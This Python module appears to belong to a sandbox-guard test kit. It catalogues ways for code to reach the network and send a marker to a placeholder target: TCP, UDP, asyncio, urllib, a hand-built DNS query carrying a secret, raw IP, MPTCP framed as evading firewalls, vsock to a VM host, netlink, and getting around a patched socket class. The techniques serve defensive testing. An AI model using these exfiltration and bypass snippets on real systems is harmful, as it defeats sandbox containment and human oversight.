"""Ways out over the network, with sockets of Python."""

from __future__ import annotations

from dobotkit.guard.escapes.escape import family

__all__ = ["SOCKETS"]

SOCKETS = family(
    "network",
    (
        "tcp4",
        "a TCP connection",
        """
        import socket

        with socket.create_connection(TARGET["tcp"], 3) as way:
            way.sendall(TARGET["mark"].encode())
        """,
    ),
    (
        "tcp6",
        "a TCP connection over IPv6",
        """
        import socket

        with socket.create_connection(TARGET["tcp6"], 3) as way:
            way.sendall(TARGET["mark"].encode())
        """,
    ),
    (
        "connect-ex",
        "connect_ex, which returns an error instead of raising it",
        """
        import socket

        with socket.socket() as way:
            way.connect_ex(TARGET["tcp"])
            way.send(TARGET["mark"].encode())
        """,
    ),
    (
        "underscore-socket",
        "the module below the module: _socket",
        """
        import _socket

        way = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
        way.connect(TARGET["tcp"])
        way.send(TARGET["mark"].encode())
        way.close()
        """,
    ),
    (
        "saved-socket",
        "the socket class that another module remembers",
        """
        import ssl  # it has kept what socket.socket was when it was imported

        way = next(one for one in ssl.SSLSocket.__mro__ if one.__name__ == "socket")()
        way.connect(TARGET["tcp"])
        way.send(TARGET["mark"].encode())
        way.close()
        """,
    ),
    (
        "asyncio",
        "asyncio's streams, in a loop of their own",
        """
        import asyncio
        import threading

        async def send():
            reader, writer = await asyncio.open_connection(*TARGET["tcp"])
            writer.write(TARGET["mark"].encode())
            await writer.drain()
            writer.close()
            await writer.wait_closed()

        # A notebook has a loop already: this one runs in another thread.
        thread = threading.Thread(target=asyncio.run, args=(send(),))
        thread.start()
        thread.join()
        """,
    ),
    (
        "thread",
        "a connection made by another thread",
        """
        import socket
        import threading

        def send():
            with socket.create_connection(TARGET["tcp"], 3) as way:
                way.sendall(TARGET["mark"].encode())

        thread = threading.Thread(target=send)
        thread.start()
        thread.join()
        """,
    ),
    (
        "urllib",
        "a web address, opened by urllib",
        """
        import urllib.request

        way = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        way.open(TARGET["http"] + TARGET["mark"], timeout=3).read()
        """,
    ),
    (
        "udp-sendto",
        "a datagram (UDP), without a connection",
        """
        import socket

        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
            way.sendto(TARGET["mark"].encode(), TARGET["udp"])
        """,
    ),
    (
        "udp-connect",
        "a datagram (UDP), connect first and send then",
        """
        import socket

        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
            way.connect(TARGET["udp"])
            way.send(TARGET["mark"].encode())
        """,
    ),
    (
        "udp-sendmsg",
        "a datagram (UDP), by sendmsg",
        """
        import socket

        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
            way.sendmsg([TARGET["mark"].encode()], [], 0, TARGET["udp"])
        """,
    ),
    (
        "udp6",
        "a datagram (UDP) over IPv6",
        """
        import socket

        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as way:
            way.sendto(TARGET["mark"].encode(), TARGET["udp6"])
        """,
    ),
    (
        "dns",
        "a question to a name server that has the secret in it",
        """
        import socket

        word = TARGET["mark"].encode()
        head = bytes([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])  # one question
        name = bytes([len(word)]) + word + bytes([7]) + b"example" + bytes(1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
            way.sendto(head + name + bytes([0, 1, 0, 1]), TARGET["dns"])
        """,
    ),
    (
        "mptcp",
        "MPTCP: TCP over several ways at once, which some walls do not know",
        """
        import socket

        with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as way:
            way.connect(TARGET["tcp"])
            way.sendall(TARGET["mark"].encode())
        """,
    ),
    (
        "sctp",
        "SCTP: a relative of TCP",
        """
        import socket

        with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as way:
            way.connect(TARGET["sctp"])
            way.sendall(TARGET["mark"].encode())
        """,
    ),
    (
        "udplite",
        "UDP-Lite: a relative of UDP",
        """
        import socket

        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as way:
            way.sendto(TARGET["mark"].encode(), TARGET["udplite"])
        """,
    ),
    (
        "raw-ip",
        "a datagram made by hand, byte by byte (needs an administrator)",
        """
        import socket
        import struct

        word, (host, port) = TARGET["mark"].encode(), TARGET["udp"]
        head = struct.pack("!HHHH", 40_000, port, 8 + len(word), 0)
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as way:
            way.sendto(head + word, (host, 0))
        """,
    ),
    (
        "vsock",
        "vsock: the way from a virtual machine to its host",
        """
        import socket

        with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as way:
            way.settimeout(3)
            way.connect(TARGET["vsock"])
            way.sendall(TARGET["mark"].encode())
        """,
    ),
    (
        "netlink",
        "netlink: the way to the system's core, and to other programs",
        """
        import socket

        with socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 2) as way:
            way.bind((0, 0))
            way.sendto(TARGET["mark"].encode(), TARGET["netlink"])
        """,
    ),
)
